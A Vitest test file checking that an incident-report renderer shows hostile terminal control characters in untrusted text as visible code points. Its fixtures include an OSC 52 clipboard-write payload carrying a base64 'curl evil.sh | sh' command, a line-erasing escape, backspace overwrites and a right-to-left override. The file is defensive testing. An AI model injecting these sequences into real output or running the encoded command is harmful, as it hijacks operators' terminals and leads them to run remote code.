import { describe, expect, it } from "vitest";
import { ANSI_PAINT } from "../../src/report/colour.js";
import { renderMarkdown } from "../../src/report/render-markdown.js";
import { renderText } from "../../src/report/render-text.js";
import { terminalSafe } from "../../src/report/terminal-safe.js";
import { makeRun } from "../fixtures/github/run-fixture.js";

// Strangers' text (a log line, an alert title, a repository file) printed on the on-call's terminal.
const CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007"; // OSC 52: writes the clipboard
const ERASE = "\u001b[2K\u001b[1A"; // erase the line, move up: hides what was printed above
const TROJAN = "ok \u202euser\u202c"; // right-to-left override

function hostileRun() {
  const base = makeRun();
  return makeRun({
    incident: { ...base.incident, title: `Disk full${ERASE} on db-1` },
    diagnosis: {
      ...base.diagnosis!,
      rootCause: `The volume filled${CLIPBOARD} at 02:50 ${TROJAN}`,
      evidence: [
        { ...base.diagnosis!.evidence[0]!, excerpt: `ERROR\u0008\u0008\u0008\u0008\u0008INFO  disk full` },
      ],
    },
  });
}

/** Escape sequences other than the colours our own paint writes (`ESC[…m`). */
const foreignEscapes = (text: string) =>
  text
    .replace(/\u001b\[[0-9;]*m/g, "")
    .match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/g) ?? [];

describe("untrusted text on a terminal", () => {
  it("shows escape sequences, backspaces and direction overrides as visible code points", () => {
    expect(terminalSafe(`a${CLIPBOARD}b`)).toBe("a<U+001B>]52;c;Y3VybCBldmlsLnNoIHwgc2g=<U+0007>b");
    expect(terminalSafe("tab\tand\nnewline stay")).toBe("tab\tand\nnewline stay");
    expect(terminalSafe(TROJAN)).toBe("ok <U+202E>user<U+202C>");
  });

  it("the text report, coloured, carries no escape but its own colours", () => {
    const text = renderText(hostileRun(), ANSI_PAINT);
    expect(text).toContain("\u001b[1;"); // the verdict is still coloured
    expect(foreignEscapes(text)).toEqual([]);
    expect(text).toContain("<U+001B>]52;c;");
    expect(text).toContain("Disk full<U+001B>[2K<U+001B>[1A on db-1");
  });

  it("the Markdown report carries none either", () => {
    expect(foreignEscapes(renderMarkdown(hostileRun()))).toEqual([]);
  });
});
